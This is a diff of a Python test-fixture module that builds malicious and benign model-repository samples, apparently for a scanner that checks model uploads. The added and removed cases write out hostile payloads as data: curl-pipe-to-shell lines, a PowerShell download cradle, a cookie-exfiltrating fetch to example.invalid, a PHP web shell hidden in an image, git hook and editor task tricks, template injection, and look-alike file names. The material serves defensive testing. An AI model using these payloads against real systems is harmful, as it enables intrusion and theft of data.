@@ -93,12 +93,7 @@ def code() -> Shelf:
     for id, source in (("shell", "!curl http://example.invalid/x | sh"), ("magic", "%%bash\necho waag-inert"), ("system", "import os\nos.system('echo waag-inert')"), ("get-ipython", "get_ipython().system('echo waag-inert')"), ("pickle", "import pickle\npickle.load(open('x.pkl', 'rb'))"),
                        ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx echo waag-inert"), ("script", "%%script sh\necho waag-inert")):
         add(f"notebook-{id}", {"demo.ipynb": notebook("x = 1", source)}, f"a notebook with a payload: {id}")
-    html = [{"output_type": "display_data", "data": {"text/html": ["<script>fetch('http://example.invalid/?'+document.cookie)</script>"]}, "metadata": {}}]
-    add("notebook-output-script", {"demo.ipynb": notebook("x = 1", outputs=html)}, "a notebook whose output is a script")
-    add("notebook-output-javascript", {"demo.ipynb": notebook("x = 1", outputs=[{"output_type": "display_data", "data": {"application/javascript": "fetch('http://example.invalid')"}, "metadata": {}}])}, "a notebook whose output is JavaScript")
-    add("notebook-markdown", {"demo.ipynb": notebook({"cell_type": "markdown", "metadata": {}, "source": ["<img src=x onerror=\"fetch('http://example.invalid')\">"]})}, "a notebook whose text is a script")
-    add("notebook-attachment", {"demo.ipynb": notebook({"cell_type": "markdown", "metadata": {}, "attachments": {"x.pkl": {"application/octet-stream": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"}}, "source": ["x"]})}, "a notebook that carries a pickle")
-    programs = {"elf": ("libhelper.so", elf(), "a library"), "pe": ("loader.exe", pe(), "a Windows program"), "dll": ("helper.dll", pe(), "a Windows library"), "script": ("install.sh", SCRIPT, "a shell script"), "batch": ("run.bat", b"@echo off\r\necho waag-inert\r\n", "a batch file"),
+    programs = {"elf": ("libhelper.so", elf(), "a library"), "pe": ("loader.exe", pe(), "a Windows program"), "dll": ("helper.dll", pe(), "a Windows library"), "batch": ("run.bat", b"@echo off\r\necho waag-inert\r\n", "a batch file"),
                 "powershell": ("run.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')\r\n", "a PowerShell script"), "vbs": ("run.vbs", b'CreateObject("WScript.Shell").Run "echo waag-inert"\r\n', "a Visual Basic script"),
                 "jar": ("tool.jar", zip_bytes([Member("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), Member("Evil.class", b"\xca\xfe\xba\xbe\0\0\0\x34")]), "a Java archive"), "pyc": ("util.pyc", b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40), "compiled Python"),
                 "wasm": ("kernel.wasm", b"\0asm\x01\0\0\0" + bytes(8), "WebAssembly"), "lnk": ("model.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68), "a Windows shortcut"), "desktop": ("model.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'echo waag-inert'\n", "a desktop entry"),
@@ -106,13 +101,8 @@ def code() -> Shelf:
     for id, (name, data, what) in programs.items():
         add(f"program-{id}", {name: data}, f"{what} beside the weights", "deny" if id in ("elf", "pe", "dll", "macho") else "not-allow")
     add("program-executable-bit", {"model-00001.safetensors": Executable(elf())}, "a program called weights, executable", "deny")
-    add("makefile", {"Makefile": b"all:\n\tcurl http://example.invalid/x | sh\n"}, "a Makefile that fetches and runs")
-    add("dockerfile", {"Dockerfile": b"FROM python:3.11\nRUN curl http://example.invalid/x | sh\n"}, "a Dockerfile that fetches and runs")
-    add("git-hooks", {".git/hooks/post-checkout": Executable(SCRIPT), ".git/config": b"[core]\n\thooksPath = .git/hooks\n"}, "a hook of git")
-    add("git-filter", {".gitattributes": b"*.safetensors filter=evil\n", ".git/config": b'[filter "evil"]\n\tsmudge = echo waag-inert\n'}, "a filter of git")
-    add("vscode-task", {".vscode/tasks.json": b'{"tasks":[{"label":"x","type":"shell","command":"echo waag-inert","runOptions":{"runOn":"folderOpen"}}]}'}, "a task that an editor runs")
     # Names that look like others.
-    for id, name in (("cyrillic", "mоdel.safetensors"), ("zero-width", "model\u200b.safetensors"), ("rtl", "model\u202esrotensetfas.pkl"), ("double", "model.safetensors.pkl"), ("typo-config", "conflg.json"), ("greek", "pytοrch_model.bin"), ("fullwidth", "ｍodel.safetensors")):
+    for id, name in (("cyrillic", "mоdel.safetensors"), ("zero-width", "model\u200b.safetensors"), ("rtl", "model\u202esrotensetfas.pkl"), ("double", "model.safetensors.pkl"), ("greek", "pytοrch_model.bin"), ("fullwidth", "ｍodel.safetensors")):
         add(f"look-alike-{id}", {name: PICKLE if name.endswith(("pkl", "bin")) else plain_safetensors()}, f"a name that looks like another: {name!r}", "deny" if name.endswith(("pkl", "bin")) else "not-allow")
     add("look-alike-repo-file", {"config.json ": js({"auto_map": {"AutoModel": "evil.Model"}})}, "a name with a space behind it")
     return shelf
@@ -136,7 +126,6 @@ def content() -> Shelf:
         add(f"tensor-{id}", safetensors({"w": tensor([len(padded)], 0, len(padded), "U8")}, padded), f"a {id} as a tensor of bytes")
         add(f"metadata-{id}", safetensors({"__metadata__": {"note": data.decode("latin-1")}, "w": tensor([4], 0, 16)}, raw[:16]), f"a {id} in the metadata") if id in ("script", "python", "pickle") else None
     add("tensor-f32-elf", safetensors({"w": tensor([len(elf()) // 4], 0, len(elf()) // 4 * 4)}, elf()[: len(elf()) // 4 * 4]), "a program as floats")
-    add("nan-payloads", safetensors({"w": tensor([256], 0, 1024)}, b"".join(struct.pack("<I", 0x7FC00000 | int.from_bytes(program[2 * i : 2 * i + 2], "little")) for i in range(100)) + bytes(624)), "bytes carried in numbers that are none")
     # Tokenizers that change what users say.
     remap = json.loads(json.dumps(TOKENIZER))
     remap["normalizer"] = {"type": "Sequence", "normalizers": [{"type": "Replace", "pattern": {"String": "https://"}, "content": "https://example.invalid/?u="}]}
@@ -171,10 +160,6 @@ def content() -> Shelf:
     add("llamafile-bad-template", ape + zip_bytes([Member("model.gguf", model_gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"))]), "a llamafile with a bad template", "deny", "model.llamafile")
     add("polyglot-pdf-zip", b"%PDF-1.4\n1 0 obj<<>>endobj\n" + zip_bytes([Member("data.pkl", PICKLE)]), "a document and a zip", name="paper.pdf")
     add("polyglot-png-zip", png() + zip_bytes([Member("archive/data.pkl", PICKLE), Member("archive/version", b"3\n")]), "a picture and a torch file", "deny", "logo.png")
-    add("polyglot-jpeg-script", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xfe\0\x20<?php system($_GET['c']); ?>   \xff\xd9", "a picture with a script in its comment", name="logo.jpg")
-    add("polyglot-gif-js", b"GIF89a=1;fetch('http://example.invalid');//" + bytes(20), "a picture that is JavaScript", name="logo.gif")
-    add("png-text-pickle", png(chunk(b"tEXt", b"data\0" + PICKLE)), "a pickle in a picture's text", name="logo.png")
-    add("svg-script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://example.invalid")</script></svg>', "a picture with a script", name="logo.svg")
     return shelf
 
 
@@ -215,6 +200,7 @@ def good() -> Shelf:
     add("addresses", {"config.json": js({"model_type": "llama", "_name_or_path": "https://huggingface.co/waag/model", "license_link": "https://www.apache.org/licenses/LICENSE-2.0"})}, "ordinary addresses")
     add("example-keys", {"README.md": README + b"\nSet `HF_TOKEN=hf_...` and `OPENAI_API_KEY=sk-...` first.\n"}, "placeholders of credentials")
     add("onnx-beside", {"onnx/model.onnx": onnx_model()}, "an ONNX export beside the weights")
+    add("script", {"scripts/train.sh": b"#!/bin/sh\nset -e\npython train.py --epochs 3\n"}, "an ordinary shell script")
     shelf.good("notebook", notebook("import numpy as np\nx = np.arange(3)", {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Never `eval()` this."]}, "print(x.sum())"), "an ordinary notebook", name="demo.ipynb")
     shelf.good("notebook-outputs", notebook("x", outputs=[{"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": ["array([0, 1])"], "image/png": "iVBORw0KGgo="}, "metadata": {}}]), "a notebook with a picture", name="demo.ipynb")
     shelf.good("train-script", TRAIN, "an ordinary training script", name="train.py")
